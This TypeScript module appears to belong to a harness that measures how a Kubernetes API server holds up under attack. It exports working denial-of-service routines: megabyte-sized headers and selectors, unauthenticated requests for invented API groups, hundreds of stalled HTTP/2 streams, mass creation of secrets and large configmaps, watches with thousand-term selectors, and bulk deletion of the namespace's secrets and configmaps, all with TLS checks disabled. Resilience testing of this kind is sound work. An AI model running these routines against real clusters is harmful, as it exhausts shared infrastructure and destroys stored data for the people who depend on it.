/** Ways to ask a server for what costs it much to find, to show, or to refuse. */
import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2'
import { oneAfterAnother, type Request, repeatedly, scaled, type WholeAttack } from './attack-outcome.ts'
import { send, type Target } from './attack-run.ts'

/** About as much as the head of a request may have. */
const headBytes = 1_000_000
const filled = (unit: string, bytes = headBytes): string => unit.repeat(bytes / unit.length)
const numbered = (count: number, text: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => text(index)).join(',')

/** Heads of a megabyte, and words that nobody has said before, by somebody who does not say who they are. */
export const unknownReaders: WholeAttack = (target, scale) =>
  repeatedly(scale, () => oneAfterAnother({ ...target, token: '' }, [...longHeads(scale), ...strangeWords(scaled(500, scale))]))

const get = (path: string, headers: Record<string, string> = {}): Request => ['GET', path, '', 'application/json', headers]

function longHeads(scale: number): Request[] {
  const bytes = scaled(headBytes, Math.max(scale, 0.1))
  const of = (unit: string) => filled(unit, bytes)
  const terms = (text: (index: number) => string) => numbered(Math.floor(bytes / 10), text)
  return [
    get('/api/v1/pods', { accept: of(',') }),
    get('/api/v1/pods', { accept: `application/json${of(';')}` }),
    get('/openapi/v2', { accept: of(',') }),
    get('/openapi/v3', { 'accept-encoding': of(',') }),
    get('/version', { accept: of('a/b;q=1,') }),
    get(`/api/v1/pods?labelSelector=${of('a,')}a`),
    get(`/api/v1/pods?labelSelector=a+in+(${terms((index) => `v${index}`)})`),
    get(`/api/v1/pods?labelSelector=${of('+')}`),
    get(`/api/v1/pods?watch=true&fieldSelector=${of('a=b,')}a=b`),
    get(`/api/v1/pods?fieldSelector=a=${of('\\\\')}`),
    get(`/api/v1/pods?${of('a&')}`),
    get(`/api/v1${of('/a')}`),
    get(`/api/v1/nodes/a/proxy${of('/%')}`),
  ]
}

let words = 0

function strangeWords(count: number): Request[] {
  return Array.from({ length: count }, () => {
    const word = `stranger${words++}`
    return get(`/apis/${word}/${word}`, { accept: `${word}/${word}, application/json`, 'user-agent': word })
  })
}

/** Revisions that never come, asked for by many at once. */
export const futureRevisions: WholeAttack = async (target, scale) => {
  const startedMs = performance.now()
  using client = new Streams(target)
  let requests = 0
  let answered = 0
  for (let round = 0; round < scaled(4, scale); round++) {
    const streams = Array.from({ length: scaled(300, scale) }, () => client.get(`${maps}?resourceVersion=999999999999`))
    const sizes = streams.map(async (stream) => {
      let bytes = 0
      for await (const piece of stream) bytes += (piece as Buffer).length
      return bytes
    })
    requests += sizes.length
    answered = Math.max(answered, ...(await Promise.all(sizes)))
  }
  return { requests, slowestMs: performance.now() - startedMs, answered }
}

/** Many requests of one connection. */
class Streams implements Disposable {
  readonly #session: ClientHttp2Session
  readonly #token: string

  constructor({ url, token }: Target) {
    this.#session = connectHttp2(url, { rejectUnauthorized: false })
    this.#session.on('error', () => {})
    this.#token = token
  }
  get(path: string): ClientHttp2Stream {
    const stream = this.#session.request({ ':path': path, authorization: `Bearer ${this.#token}` })
    stream.on('error', () => {})
    return stream
  }
  [Symbol.dispose](): void {
    this.#session.destroy()
  }
}

const secrets = '/api/v1/namespaces/default/secrets'
const maps = '/api/v1/namespaces/default/configmaps'
const table = 'as=Table;v=v1;g=meta.k8s.io'

/** Many objects of which nothing is wanted, and large ones in every form. */
export const reading: WholeAttack = async (target, scale) => {
  const created = await createMany(target, scaled(20_000, scale), scaled(40, scale))
  const outcome = await oneAfterAnother(target, searches())
  const shown = await oneAfterAnother(target, forms())
  const watched = await watchMany(target, scale)
  const deleted = await oneAfterAnother(target, [
    ['DELETE', secrets, ''],
    ['DELETE', maps, ''],
  ])
  return {
    requests: created + outcome.requests + shown.requests + watched + deleted.requests,
    slowestMs: Math.max(outcome.slowestMs, shown.slowestMs),
    answered: shown.answered,
  }
}

async function createMany(target: Target, small: number, large: number): Promise<number> {
  const body = (name: string, more: object) => JSON.stringify({ metadata: { name, labels: { some: name } }, ...more })
  const stringData = { fill: 'x'.repeat(1000) }
  for (let index = 0; index < small; index += 50) {
    const batch = Array.from({ length: Math.min(50, small - index) }, (_, each) => body(`r${index + each}`, { stringData }))
    await Promise.all(batch.map((text) => send(target, 'POST', secrets, text)))
  }
  for (let index = 0; index < large; index++) {
    const data = { lines: 'some words, "quoted"\n'.repeat(20_000), words: "it's # ".repeat(70_000) }
    await send(target, 'POST', maps, body(`l${index}`, { data }))
  }
  return small + large
}

/** Fields of which nobody has asked before: the objects are parsed for them. */
const searches = (): Request[] => [
  get(`${secrets}?fieldSelector=type%3Dnothing`),
  get(`${secrets}?labelSelector=no%3Dthing`),
  get(`${secrets}?labelSelector=${numbered(1000, (index) => `!no${index}`)}`),
  get(`${secrets}?limit=1&labelSelector=no%3Dthing`),
  get(`${secrets}?limit=1&labelSelector=no%3Dthing&continue=${firstPage}`),
  get(`${secrets}?resourceVersion=1&resourceVersionMatch=NotOlderThan&labelSelector=${numbered(1000, (index) => `n${index}!=a`)}`),
  ['DELETE', `${secrets}?labelSelector=no%3Dthing`, ''],
]

/** As servers write it: from the first object on, as it is now. */
const firstPage = Buffer.from(JSON.stringify({ v: 'meta.k8s.io/v1', rv: -1, start: '\u0000' })).toString('base64url')

const forms = (): Request[] =>
  [
    'application/yaml',
    `application/yaml;${table}`,
    `application/json;${table}`,
    'application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io',
    'application/vnd.kubernetes.protobuf',
    'application/vnd.kubernetes.protobuf;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io',
  ]
    .map((accept) => get(maps, { accept }))
    .concat([
      get(`${maps}?pretty=true`),
      get(`${maps}/l0`, { accept: 'application/yaml' }),
      get(`${maps}/l0`, { accept: `application/yaml;${table}` }),
      get(`${maps}/l0?pretty=true`),
    ])

/** Watches of nothing, by selectors of thousands of terms, while what they do not want changes. */
async function watchMany(target: Target, scale: number): Promise<number> {
  using client = new Streams(target)
  const initial = 'watch=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true'
  const whole = client.get(`${secrets}?${initial}&labelSelector=no%3Dthing`)
  await new Promise((resolve) => {
    whole.on('data', (piece: Buffer) => piece.includes('initial-events-end') && resolve(undefined))
    whole.on('close', resolve)
  })
  const count = scaled(300, scale)
  const selector = numbered(990, (index) => `!no${index}`)
  const begun = Array.from({ length: count }, () => {
    const stream = client.get(`${maps}?watch=true&resourceVersion=0&labelSelector=no,${selector}`)
    stream.resume()
    return new Promise((resolve) => stream.once('response', resolve).once('close', resolve))
  })
  await Promise.all(begun)
  const writes = scaled(50, scale)
  for (let index = 0; index < writes; index++) {
    const patch = JSON.stringify({ data: { count: String(index) } })
    await send(target, 'PATCH', `${maps}/l0`, patch, 'application/merge-patch+json')
  }
  return 1 + count + writes
}
